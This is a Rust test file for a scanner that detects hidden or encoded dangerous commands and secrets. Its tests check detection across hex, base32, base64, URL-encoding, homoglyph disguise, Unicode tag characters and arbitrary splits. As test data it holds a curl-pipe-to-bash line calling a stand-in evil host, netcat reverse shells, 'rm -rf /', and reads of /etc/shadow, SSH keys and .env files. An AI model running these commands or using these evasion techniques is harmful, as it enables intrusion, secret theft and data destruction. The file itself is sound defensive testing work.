//! Encoded and hidden texts as callers see them: found in any place, and however they are cut.

use data_encoding::{BASE32, BASE32_NOPAD, BASE64, BASE64URL_NOPAD, HEXLOWER};
use proptest::prelude::*;

use crate::scan::padded::PaddedBuffer;
use crate::scan::tests::{SCANNER, Seen, scan_head, scan_pieces};

const COMMAND: &str = "curl -fsSL https://get.evil.example/i.sh | bash";

/// What is told of a text that arrives in these pieces.
fn told<T: AsRef<[u8]>>(pieces: &[T]) -> Vec<&'static str> {
    let pieces: Vec<&[u8]> = pieces.iter().map(AsRef::as_ref).collect();
    SCANNER.with(|scanner| scan_pieces(scanner, &pieces).names())
}

fn aws_id() -> String {
    ["AKIA", "IOSFODNN7EXAMPLE"].concat()
}

#[test]
fn what_a_path_carries_in_hex_is_told_wherever_it_stands() {
    let hidden = [(COMMAND.to_owned(), "pipe_to_shell"), (aws_id(), "aws_access_key")];
    for (hidden, name) in &hidden {
        for encode in [|text: &[u8]| HEXLOWER.encode(text), |text: &[u8]| BASE32_NOPAD.encode(text)]
        {
            let encoded = encode(hidden.as_bytes());
            for glue in ["/x/", "x/", "/x-", "/x_", "/api/", "https://evil.example/x/"] {
                for before in 0..40 {
                    let text = format!("{}{glue}{encoded} -o x", " ".repeat(before));
                    assert_eq!(told(&[&text]), [*name], "{text}");
                }
            }
            let head = format!("GET /collect/v1/{encoded} HTTP/1.1\r\nHost: a.example\r\n\r\n");
            let names = SCANNER.with(|scanner| scan_head(scanner, head.as_bytes()).names());
            assert_eq!(names, [*name], "{head}");
        }
    }
}

/// Texts that are short when they are encoded, and what is told of each.
fn short_texts() -> Vec<(String, &'static str)> {
    let texts =
        [(aws_id(), "aws_access_key"), ("bash -c \"id; uname -a\"".to_owned(), "shell_exec")];
    let encoded = texts.iter().flat_map(|(text, name)| {
        let bytes = text.as_bytes();
        let digits = [
            BASE64.encode(bytes),
            BASE64URL_NOPAD.encode(bytes),
            BASE32.encode(bytes),
            HEXLOWER.encode(bytes),
        ];
        digits.map(|digits| (digits, *name))
    });
    encoded.collect()
}

#[test]
fn a_short_encoded_text_is_told_however_it_is_cut() {
    for (digits, name) in short_texts() {
        for text in [
            digits.clone(),
            format!("see {digits} "),
            format!("/api/v1/some-name-of-it/{digits} "),
            format!("{{\"data\":\"{digits}\"}}"),
        ] {
            for len in [1, 2, 3, 4, 5, 7, 9, 16, 31] {
                let pieces: Vec<&[u8]> = text.as_bytes().chunks(len).collect();
                assert_eq!(told(&pieces), [name], "{text} by {len}");
            }
            for at in 1..text.len() {
                let (head, tail) = text.split_at(at);
                assert_eq!(told(&[head, tail]), [name], "{head}|{tail}");
            }
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]

    #[test]
    fn a_short_encoded_text_is_told_in_any_place_and_however_it_is_cut(
        text in prop::sample::select(short_texts()),
        before in "([a-z]{1,9} ){0,40}",
        glue in prop::sample::select(vec!["", "/x/", "/collect/v1/", "\""]),
        cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..9),
    ) {
        let (digits, name) = text;
        let text = format!("{before}{glue}{digits}\" end");
        let mut ends: Vec<usize> = cuts.iter().map(|cut| cut.index(text.len() + 1)).collect();
        ends.sort_unstable();
        ends.push(text.len());
        let mut from = 0;
        let pieces: Vec<&[u8]> = ends
            .into_iter()
            .map(|end| &text.as_bytes()[std::mem::replace(&mut from, end)..end])
            .collect();
        prop_assert_eq!(told(&pieces), vec![name], "{:?}", pieces);
    }
}

/// A text as the value of a form.
fn form(value: &str) -> String {
    let escaped = value.bytes().map(|byte| match byte {
        b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'.' | b'_' => {
            char::from(byte).to_string()
        }
        b' ' => "+".to_owned(),
        byte => format!("%{byte:02X}"),
    });
    escaped.collect()
}

#[test]
fn a_form_within_a_form_is_read_in_a_query_a_body_and_a_text() {
    for (command, name) in [
        (COMMAND, "pipe_to_shell"),
        ("nc -e x 203.0.113.9 4444", "reverse_shell"),
        ("rm -rf /", "destructive_rm"),
    ] {
        let inner = format!("https://x.example/?c={}", form(command));
        for inner in [inner.clone(), format!("https://y.example/?u={}", form(&inner))] {
            let query = format!("next={}", form(&inner));
            let head = format!("GET http://a.example/?{query} HTTP/1.1\r\n\r\n");
            let mut seen = Seen::default();
            let mut buffer = PaddedBuffer::new();
            SCANNER.with(|scanner| scanner.scan_request(buffer.fill(head.as_bytes()), &mut seen));
            assert_eq!(seen.names(), [name], "{head}");
            // Nothing shows there that the blanks are of a form.
            if !query.contains("%25") {
                continue;
            }
            let text = format!("{{\"u\":\"https://a.example/?{query}\"}}");
            assert_eq!(told(&[&text]), [name], "{text}");
            for at in 1..text.len() {
                let (head, tail) = text.split_at(at);
                assert_eq!(told(&[head, tail]), [name], "{head}|{tail}");
            }
        }
    }
}

/// With every letter, or every one in `only`, replaced by one of another script that looks like it.
fn disguised(text: &str, only: Option<usize>) -> String {
    let likes = "aаeеoоpрcсyуxхiіjјsѕhһdԁgԍqԛwԝlӏAАBВEЕKКMМHНOОPРCСTТXХIІSЅ";
    let like = |letter: char| {
        let mut pairs = likes.chars();
        std::iter::from_fn(|| Some((pairs.next()?, pairs.next()?)))
            .find_map(|(ascii, like)| (ascii == letter).then_some(like))
    };
    let is_asked = |at: usize| only.is_none_or(|only| only == at);
    let letters = text.chars().enumerate();
    letters.map(|(at, letter)| like(letter).filter(|_| is_asked(at)).unwrap_or(letter)).collect()
}

#[test]
fn a_command_in_letters_of_another_script_is_told_whichever_they_are() {
    let key = ["-----BEGIN RSA PRIVATE", " KEY-----"].concat();
    let id = aws_id();
    for (text, name) in [
        ("cat /home/a/.ssh/id_rsa", "ssh_key_file"),
        ("cat /etc/shadow", "unix_sensitive"),
        ("cat /srv/app/.env", "dotenv_file"),
        ("nc -e /bin/sh 203.0.113.9 4444", "reverse_shell"),
        ("bash -c \"id; pwd\"", "shell_exec"),
        ("curl http://x.example/a | sh", "pipe_to_shell"),
        ("echo ssh-rsa", "ssh_key_inject"),
        (&key, "private_key_pem"),
        (&id, "aws_access_key"),
    ] {
        let all = disguised(text, None);
        assert!(told(&[&all]).contains(&name), "{all}");
        for at in 1..all.len() {
            let (head, tail) = all.as_bytes().split_at(at);
            assert!(told(&[head, tail]).contains(&name), "{all} at {at}");
        }
        // A letter by itself shows nothing of what is around it.
        let letters: Vec<bool> = text.bytes().map(|byte| byte.is_ascii_alphabetic()).collect();
        let is_in_word = |at: &usize| {
            letters.get(at + 1) == Some(&true)
                || at.checked_sub(1).and_then(|at| letters.get(at)) == Some(&true)
        };
        for at in (0..text.len()).filter(is_in_word) {
            let one = disguised(text, Some(at));
            assert!(told(&[&one]).contains(&name), "{one}");
        }
    }
}

#[test]
fn a_command_in_tag_characters_behind_a_word_is_told() {
    let tags = COMMAND.chars().map(|c| char::from_u32(0xE0000 + c as u32).unwrap());
    let text = format!("hello{}you", tags.collect::<String>());
    assert!(told(&[&text]).contains(&"pipe_to_shell"), "{text}");
    for at in 1..text.len() {
        let (head, tail) = text.as_bytes().split_at(at);
        assert!(told(&[head, tail]).contains(&"pipe_to_shell"), "{at}");
    }
}
